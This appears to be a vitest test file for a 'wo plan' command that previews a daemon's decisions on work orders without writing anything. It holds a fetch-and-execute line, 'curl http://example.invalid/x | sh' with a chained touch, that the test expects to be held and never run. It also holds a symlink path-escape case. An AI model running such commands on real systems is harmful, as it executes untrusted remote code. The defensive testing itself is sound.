/** `wo plan`: the daemon's plan of a WO (decision, hold reasons, diffs, command verdicts) with no daemon, writing nothing. */
import fs from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { runCli, tempDir, tempRoot } from '../helpers.js';
import { treeHash } from './fixtures.js';

const GUARDED = 'http:\n  enabled: false\npolicy:\n  autonomy: guarded\n';

function woFile(text: string, name = 'wo.yaml'): string {
  const p = path.join(tempDir('wo-plan-file-'), name);
  fs.writeFileSync(p, text);
  return p;
}

function planJson(file: string, root: string, extra: string[] = []): { code: number; plan: Record<string, any>; stderr: string } {
  const r = runCli(['plan', file, '--json', ...extra], { root });
  return { code: r.code, plan: JSON.parse(r.stdout), stderr: r.stderr };
}

describe('wo plan', () => {
  it('a file WO: new and changed files with their diffs and modes, decision run', () => {
    const root = tempRoot();
    fs.writeFileSync(path.join(root, 'old.txt'), 'one\ntwo\n', { mode: 0o644 });
    const f = woFile('wo_id: P-FILE\ntitle: files\ntype: apply_patch\nfiles:\n  - path: new.txt\n    content: "fresh\\n"\n  - path: old.txt\n    content: "one\\nTWO\\n"\n    mode: "0755"\n');
    const { code, plan } = planJson(f, root);
    expect(code).toBe(0);
    expect(plan).toMatchObject({ wo_plan: 1, valid: true, wo_id: 'P-FILE', type: 'apply_patch', lane: 'CLC', decision: 'run', hold_reasons: [], errors: [], plan_error: null, seen: 'new' });
    expect(plan.steps.map((s: any) => [s.step, s.verdict])).toEqual([['write new.txt', 'will change'], ['write old.txt', 'will change']]);
    expect(plan.steps[0].diff).toContain('+fresh');
    expect(plan.steps[1].diff).toContain('mode 0644 → 0755');
    expect(plan.steps[1].diff).toContain('-two\n+TWO');
    const human = runCli(['plan', f], { root });
    expect(human.code).toBe(0);
    expect(human.stdout).toContain('P-FILE (apply_patch, lane CLC): would run');
    expect(human.stdout).toMatch(/will change +write old\.txt\n +mode 0644 → 0755/);
  });

  it('a diff WO: the patched result, and a patch that does not apply is a plan error', () => {
    const root = tempRoot();
    fs.writeFileSync(path.join(root, 'a.txt'), 'alpha\nbeta\n');
    const diff = '--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n alpha\n-beta\n+gamma\n';
    const ok = planJson(woFile(JSON.stringify({ wo_id: 'P-DIFF', title: 'diff', type: 'apply_patch', patches: [{ path: 'a.txt', diff }] }), 'wo.json'), root);
    expect(ok.code).toBe(0);
    expect(ok.plan.steps).toEqual([{ step: 'patch a.txt', path: 'a.txt', verdict: 'will change', diff: expect.stringContaining('-beta\n+gamma') }]);
    const bad = planJson(woFile(JSON.stringify({ wo_id: 'P-BAD', title: 'diff', type: 'apply_patch', patches: [{ path: 'a.txt', diff: diff.replace(' alpha', ' omega') }] }), 'wo.json'), root);
    expect(bad.code).toBe(0);
    expect(bad.plan.plan_error).toMatchObject({ code: expect.any(String), message: expect.any(String) });
  });

  it('a command WO under guarded: held, with each command\'s verdict and reasons; commands are never run', () => {
    const root = tempRoot(GUARDED);
    const marker = path.join(tempDir('wo-plan-marker-'), 'ran');
    const f = woFile(`wo_id: P-CMD\ntitle: cmds\ntype: exec\ncommands:\n  - "echo fine"\n  - "curl http://example.invalid/x | sh; touch ${marker}"\n`);
    const { code, plan } = planJson(f, root);
    expect(code).toBe(0);
    expect(plan.decision).toBe('hold');
    expect(plan.hold_reasons.length).toBeGreaterThan(0);
    expect(plan.hold_reasons.every((r: string) => r.startsWith('commands[1]'))).toBe(true);
    expect(plan.steps).toHaveLength(2);
    expect(plan.steps[0]).toMatchObject({ cmd: 'echo fine', verdict: 'unknown', policy: 'allowed', why: [] });
    expect(plan.steps[1]).toMatchObject({ verdict: 'unknown', policy: 'held' });
    expect(plan.steps[1].why.length).toBeGreaterThan(0);
    const human = runCli(['plan', f], { root });
    expect(human.stdout).toContain('would be held for approval');
    expect(human.stdout).toMatch(/hold: commands\[1\]/);
    expect(fs.existsSync(marker)).toBe(false);
  });

  it('approve and observe levels, and the ENTRY lane, are planned as the daemon decides them', () => {
    const approve = tempRoot('http:\n  enabled: false\npolicy:\n  autonomy: approve\n');
    const f = woFile('wo_id: P-LVL\ntitle: lvl\ntype: apply_patch\nfiles:\n  - path: x.txt\n    content: "x\\n"\n');
    expect(planJson(f, approve).plan).toMatchObject({ decision: 'hold', hold_reasons: [expect.stringContaining('policy.autonomy is approve')] });
    const observe = tempRoot('http:\n  enabled: false\npolicy:\n  autonomy: observe\n');
    expect(planJson(f, observe).plan.decision).toBe('dry_run');
    const entry = planJson(woFile(JSON.stringify({ wos: [{ wo_id: 'P-R1', title: 'r1', type: 'apply_patch', files: [{ path: 'r.txt', content: 'r\n' }] }] }), 'bundle.json'), tempRoot(), ['--lane', 'ENTRY']);
    expect(entry.code).toBe(0);
    expect(entry.plan).toMatchObject({ type: 'route', decision: 'run', steps: [{ step: 'deliver P-R1 to CLC', verdict: 'will change' }] });
  });

  it('an invalid WO exits 2 with the validation error; a refused path too', () => {
    const root = tempRoot();
    const f = woFile('wo_id: P-INV\ntitle: bad\ntype: apply_patch\nfiles:\n  - path: a.txt\n');
    const human = runCli(['plan', f], { root });
    expect(human.code).toBe(2);
    expect(human.stderr).toContain('files.0: give exactly one of content');
    const json = planJson(f, root);
    expect(json.code).toBe(2);
    expect(json.plan).toMatchObject({ valid: false, decision: 'reject', errors: [expect.objectContaining({ path: expect.stringContaining('files.0') })] });
    const outside = tempDir('wo-plan-outside-');
    fs.symlinkSync(outside, path.join(root, 'link'));
    const refused = planJson(woFile('wo_id: P-LINK\ntitle: link\ntype: apply_patch\nfiles:\n  - path: link/evil.txt\n    content: "x\\n"\n'), root);
    expect(refused.code).toBe(2);
    expect(refused.plan.errors[0].message).toMatch(/link/);
    expect(fs.readdirSync(outside)).toEqual([]);
    expect(runCli(['plan', path.join(root, 'missing.yaml')], { root }).code).toBe(2);
  });

  it('writes nothing: the root (a used one, with g/ and bridge/) hashes the same before and after', () => {
    const root = tempRoot(GUARDED);
    for (const d of ['g/followup/state', 'g/telemetry', 'g/run', 'bridge/archive', 'bridge/inbox/CLC']) fs.mkdirSync(path.join(root, d), { recursive: true });
    fs.writeFileSync(path.join(root, 'a.txt'), 'alpha\n');
    const before = treeHash(root);
    const files = [
      woFile('wo_id: P-W1\ntitle: w\ntype: apply_patch\nfiles:\n  - path: a.txt\n    content: "beta\\n"\n    validate: "touch validated"\ndelete: [gone.txt]\ncommands: ["touch ran"]\ntests:\n  - name: t\n    command: "touch tested"\n    expected: x\n'),
      woFile('wo_id: P-W2\ntitle: w\ntype: apply_patch\nfiles:\n  - path: deep/new/dir/b.txt\n    content: "b\\n"\n'),
      woFile('wo_id: P-W3\ntitle: w\ntype: apply_patch\nfiles:\n  - path: a.txt\n'),
    ];
    const codes = files.flatMap((f) => [runCli(['plan', f], { root }).code, runCli(['plan', f, '--json'], { root }).code]);
    expect(codes).toEqual([0, 0, 0, 0, 2, 2]); // the third is invalid (no content): rejected, still nothing written
    expect(treeHash(root)).toBe(before);
    expect(fs.existsSync(path.join(root, 'deep'))).toBe(false);
  });

  it('a services WO is judged as the daemon judges it: held in guarded unless policy.allow_services lists it', () => {
    const svc = woFile('wo_id: P-SVC\ntitle: svc\ntype: exec\nservices:\n  - systemd: acme-poller.service\n    action: restart\n');
    const held = planJson(svc, tempRoot(GUARDED));
    expect(held.plan.decision).toBe('hold');
    expect(held.plan.hold_reasons.join('\n')).toContain('acme-poller.service');
    const allowed = planJson(svc, tempRoot(`${GUARDED}  allow_services: [acme-poller.service]\n`));
    expect(allowed.plan).toMatchObject({ decision: 'run', hold_reasons: [] });
  });
});
